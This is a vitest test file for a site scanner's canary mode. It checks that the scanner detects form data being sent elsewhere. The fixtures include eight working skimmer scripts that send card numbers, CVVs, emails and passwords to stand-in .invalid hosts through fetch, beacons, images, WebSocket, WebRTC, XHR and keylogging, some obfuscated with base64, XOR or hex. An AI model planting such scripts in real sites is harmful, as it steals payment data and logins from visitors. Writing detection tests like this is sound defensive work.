import { describe, expect, it } from 'vitest';
import { testBrowser, type TestBrowser } from '../helpers/chromium.ts';
import { browseSite, runCommand, siteServer } from '../helpers/site-server.ts';

const browser: TestBrowser | null = await testBrowser();

const form = `<form action="/pay" method="post"><input name="cardnumber"><input name="cvv"><select name="exp_month"><option>01
  <option>12</select><input type="email" name="email"><input type="password" name="pass"><button>Pay</button></form>`;
const all =
  'Object.fromEntries([...document.querySelectorAll("input")].map((field) => [field.name, field.value]))';
const whenSent = (code: string): string =>
  `document.querySelector('form').addEventListener('submit', () => { ${code} });`;
const whenTyped = (code: string): string =>
  `document.querySelectorAll('input').forEach((field) => field.addEventListener('change', () => { ${code} }));`;

/** Scripts of thieves, each with its own way and host. */
const thieves: Readonly<Record<string, string>> = {
  fetch: whenTyped(
    `fetch('https://fetch.invalid/c', { method: 'POST', body: JSON.stringify(${all}), headers: { 'x-a': '1' } })`,
  ),
  beacon: whenSent(`navigator.sendBeacon('https://beacon.invalid/c', btoa(JSON.stringify(${all})))`),
  image: whenTyped(
    `new Image().src = 'https://image.invalid/p.gif?d=' + encodeURIComponent([...JSON.stringify(${all})].reverse().join(''))`,
  ),
  socket: `const socket = new WebSocket('wss://socket.invalid/s'); ${whenSent(
    `socket.send([...JSON.stringify(${all})].map((c) => c.charCodeAt(0).toString(16)).join(''))`,
  )}`,
  form: whenSent(`const copy = document.createElement('form'); copy.method = 'post'; copy.action = 'https://form.invalid/f';
    copy.innerHTML = '<input name="x">'; copy.x.value = JSON.stringify(${all}); document.body.append(copy); copy.submit()`),
  peer: whenSent(`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.7:3478' }] });
    const channel = peer.createDataChannel('a'); channel.onopen = () => channel.send(JSON.stringify(${all}))`),
  keys: `let n = 0;
    addEventListener('keydown', ({ key }) => { new Image().src = 'https://keys.invalid/?n=' + n++ + '&k=' + encodeURIComponent(key) })`,
  hidden: whenSent(`const x = new XMLHttpRequest(); x.open('POST', 'https://hidden.invalid/x');
    x.send(btoa([...JSON.stringify(${all})].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 42)).join('')))`),
};

const pages: Readonly<Record<string, string>> = {
  '/': `${form}<a href="/honest">a</a><a href="/search">b</a>${Object.keys(thieves)
    .map((name) => `<script src="/${name}.js"></script>`)
    .join('')}`,
  // What is typed goes to whom it is meant for.
  '/honest': `${form}<script>self['jQ' + 'uery'] = { fn: { jquery: [1, 12, 4].join('.') } };
    ${whenTyped(`fetch('/check', { method: 'POST', body: JSON.stringify(${all}) })`)}
    ${whenSent(`fetch('https://api.stripe.com/v1/tokens', { method: 'POST', body: JSON.stringify(${all}) })`)}</script>`,
  '/search': `<form><input name="q"></form><script>${whenTyped(`fetch('https://search.invalid/' + document.querySelector('input').value)`)}</script>`,
};

const typed = 'while a visitor still types';
const sent = 'when the form is sent';

describe.skipIf(browser === null)('made-up data in forms', () => {
  it('is told with the host and the script that would get it, and does not leave', async () => {
    const requests: string[] = [];
    const server = await siteServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      const script = thieves[request.url!.slice(1).replace('.js', '')];
      const body = script ?? pages[request.url!];
      const type = script === undefined ? 'text/html' : 'text/javascript';
      response.writeHead(body === undefined ? 404 : 200, { 'content-type': type }).end(body ?? 'not found');
    });
    const { report, contacts } = await browseSite(browser!, server.url, '--canary', '--no-cache');
    const found = report.findings.filter(({ rule }) => rule === 'form-data-sent-elsewhere');
    const told = found.map(({ severity, evidence = '' }) => [
      severity,
      / to (\S+) by /.exec(evidence)?.[1],
      /(?:while|when)[^;]*/.exec(evidence)?.[0],
      /written as ([^;]*)/.exec(evidence)?.[1],
      /sent by [^;]*\/(\w+)\.js/.exec(evidence)?.[1],
    ]);
    expect(told.toSorted((a, b) => String(a).localeCompare(String(b)))).toEqual([
      ['critical', 'https://beacon.invalid/c', sent, 'base64', 'beacon'],
      ['critical', 'https://fetch.invalid/c', typed, undefined, 'fetch'],
      ['critical', 'https://hidden.invalid/x', sent, 'base64, then xor', 'hidden'],
      ['critical', 'https://image.invalid/p.gif', typed, expect.stringContaining('reversed'), undefined],
      ['critical', 'https://keys.invalid/', typed, 'one key at a time', undefined],
      ['critical', 'wss://socket.invalid/s', sent, 'hex', 'socket'],
      ['high', 'https://form.invalid/f', sent, 'percent', undefined],
      ['high', 'webrtc://192.0.2.7/', sent, undefined, undefined],
    ]);
    expect(
      requests.filter((line) => !/^GET \/(?:robots\.txt|sitemap\.xml|favicon\.ico|\w*(?:\.js)?)$/.test(line)),
    ).toEqual([]);
    // What a library says when it runs is read in the same visit.
    expect(report.findings.find(({ rule }) => rule === 'vulnerable-component')).toMatchObject({
      evidence: expect.stringContaining('jQuery 1.12.4, known by what it says when it runs'),
      occurrences: [{ url: `${server.url}/honest` }],
    });
    expect(contacts.filter((contact) => contact.includes('.invalid'))).toEqual([]);
    expect(report.coverage.checks).toContainEqual(
      expect.objectContaining({ id: 'canary-data', state: 'checked' }),
    );
  });

  it('needs a browser', async () => {
    const { code, stderr } = await runCommand([
      'site',
      'http://127.0.0.1:9/',
      '--canary',
      '--browser',
      'never',
    ]);
    expect([code, stderr]).toEqual([2, expect.stringContaining('--canary types into pages')]);
  });
});
